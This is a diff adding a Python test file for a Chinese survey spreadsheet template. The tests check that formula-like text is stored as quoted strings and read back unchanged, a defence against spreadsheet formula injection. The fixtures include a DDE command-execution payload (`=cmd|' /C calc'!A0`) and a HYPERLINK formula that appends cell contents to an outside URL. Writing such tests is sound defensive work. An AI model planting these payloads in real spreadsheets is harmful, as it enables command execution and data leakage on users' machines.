@@ -1,0 +1,77 @@
+"""The survey template writes text that looks like a formula as text, and reads it back unchanged."""
+
+import io
+import re
+import zipfile
+
+from openpyxl import load_workbook
+
+from committees.xlsx_write import looks_like_formula
+from surveys.excel import META_TOWN_NAME, Unit, read_upload, template_workbook
+from surveys.spec import META_SHEET
+from surveys.validation import normalize_row
+from tests.libreoffice import sheets_as_csv
+from tests.surveys.forms import FORMS, YEAR, form, rows
+
+HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
+DDE = "=cmd|' /C calc'!A0"
+TOWN = Unit("XS01", DDE, "town")
+UNITS = [TOWN, Unit("XS01V01", HYPERLINK, "village"), Unit("XS01V02", "+1", "community")]
+
+
+def template() -> bytes:
+    values = {}
+    for number in range(1, 6):
+        for name, section in rows(number).items():
+            for row in section:
+                if "committee_name" in row:
+                    row["committee_name"] = next(u.name for u in UNITS if u.code == row["committee_code"])
+            if (number, name) == (1, "main"):
+                section[0]["director_name"] = "-2"
+            if (number, name) == (5, "B"):
+                section[0] |= {"name": "@SUM(A1)", "summary": HYPERLINK, "key_figures": DDE}
+            values[(number, name)] = [normalize_row(form(number).section(name), r) for r in section]
+    return template_workbook(FORMS, values, year=YEAR, town=TOWN, units=UNITS)
+
+
+def test_no_cell_of_the_template_is_a_formula():
+    data = template()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(r"<(\w+:)?f[ >]", archive.read(name).decode()), name
+    book = load_workbook(io.BytesIO(data))
+    cells = [
+        cell
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and looks_like_formula(cell.value)
+    ]
+    assert {c.parent.title for c in cells} >= {"表1 班子队伍", "表5B 品牌项目", "单位编码表", META_SHEET}
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_the_text_reads_back_as_it_was_written():
+    upload = read_upload(template(), FORMS)
+    assert upload.errors == []
+    assert upload.meta[META_TOWN_NAME] == DDE
+    leadership = {r["committee_code"]: r for r in upload.sheet("表1").rows}
+    assert leadership["XS01"]["committee_name"] == DDE
+    assert leadership["XS01"]["director_name"] == "-2"
+    assert leadership["XS01V01"]["committee_name"] == HYPERLINK
+    brand = upload.sheet("表5B").rows[0]
+    assert (brand["name"], brand["summary"], brand["key_figures"]) == ("@SUM(A1)", HYPERLINK, DDE)
+
+
+def test_libreoffice_shows_the_text_as_typed(tmp_path):
+    source = tmp_path / "survey.xlsx"
+    source.write_bytes(template())
+    sheets = sheets_as_csv(source, tmp_path)
+    headers, *lines = sheets["表5B 品牌项目"]
+    brand = dict(zip(headers, lines[0], strict=True))
+    assert (brand["品牌名称"], brand["简介"], brand["关键数字"]) == ("@SUM(A1)", HYPERLINK, DDE)
+    headers, *lines = sheets["表1 班子队伍"]
+    leadership = {line[0]: dict(zip(headers, line, strict=True)) for line in lines}
+    assert (leadership["XS01"]["单位名称"], leadership["XS01"]["主任姓名"]) == (DDE, "-2")
+    assert [row[:2] for row in sheets["单位编码表"][1:]] == [["XS01", DDE], ["XS01V01", HYPERLINK], ["XS01V02", "+1"]]
